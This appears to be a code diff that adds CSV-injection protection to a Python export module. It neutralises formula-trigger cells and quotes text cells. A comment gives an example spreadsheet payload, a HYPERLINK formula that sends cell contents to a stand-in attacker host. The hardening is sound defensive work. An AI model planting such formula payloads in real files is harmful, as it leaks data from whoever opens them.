@@ -1,12 +1,14 @@
 """`optally export`: the stable views and the claims behind them, one file per view.
 
-CSV is for spreadsheets (whole numbers without ".0", ISO dates, empty for null);
+CSV is for spreadsheets (whole numbers without ".0", ISO dates, empty for null), and
+scraped text in it is made safe to open in one (``csv_cell``, OWASP "CSV Injection");
 Parquet keeps a fixed schema per file (integers, float64 figures, date32 dates,
 booleans) so a notebook reading two exports gets the same column types.
 """
 
 from __future__ import annotations
 
+import csv
 from collections.abc import Mapping, Sequence
 from datetime import date, datetime
 from pathlib import Path
@@ -81,6 +83,34 @@ def normalise(column: str, value: Any) -> Any:
     return float(value)
 
 
+# A spreadsheet reads a cell as a formula when it begins with one of these (OWASP "CSV
+# Injection"): "=", "+", "-", "@", a tab or a carriage return. A scraped title such as
+# '=HYPERLINK("http://evil.example/?"&A1,"open")' would run in whoever opens the export.
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+# Spreadsheets skip leading spaces and quotes before looking for a formula (OWASP's
+# '"=1+2";=1+2' example), so a trigger behind any of these counts as leading too.
+_SKIPPED_BEFORE_FORMULA = " \t\r\n\"'"
+# With QUOTE_NONNUMERIC every text cell is quoted and numbers are not, so a neutralised
+# cell cannot be split by a separator inside it, and a spreadsheet still sees numbers.
+CSV_QUOTING = csv.QUOTE_NONNUMERIC
+
+
+def csv_cell(value: Any) -> Any:
+    """``value`` as a CSV cell a spreadsheet will not evaluate.
+
+    Text that a spreadsheet would take for a formula gets a leading single quote, which
+    marks a cell as text (OWASP "CSV Injection"). Numbers are returned as they are, so a
+    negative figure (-3) stays a number; so are None and text that is no formula. Shared
+    by `optally export` and `optally metrics --format csv`; write with ``CSV_QUOTING``.
+    """
+    if not isinstance(value, str):
+        return value
+    looks_past = value.lstrip(_SKIPPED_BEFORE_FORMULA)
+    if value.startswith(FORMULA_TRIGGERS) or looks_past.startswith(FORMULA_TRIGGERS):
+        return "'" + value
+    return value
+
+
 def _csv_value(column: str, value: Any) -> Any:
     if value is None:
         return None
@@ -90,7 +120,7 @@ def _csv_value(column: str, value: Any) -> Any:
         return "true" if value else "false"
     if isinstance(value, float) and value.is_integer():
         return int(value)  # "38", not "38.0": the figures are counts
-    return value
+    return csv_cell(value)
 
 
 def export_tables(engine: Engine) -> dict[str, tuple[list[str], list[dict[str, Any]]]]:
@@ -117,7 +147,7 @@ def write_frame(
             {c: pd.Series([_csv_value(c, r[c]) for r in rows], dtype=object) for c in columns},
             columns=list(columns),
         )
-        frame.to_csv(path, index=False, lineterminator="\n", encoding="utf-8")
+        frame.to_csv(path, index=False, lineterminator="\n", encoding="utf-8", quoting=CSV_QUOTING)
     else:
         frame = pd.DataFrame(
             {c: pd.Series([r[c] for r in rows], dtype=object) for c in columns},
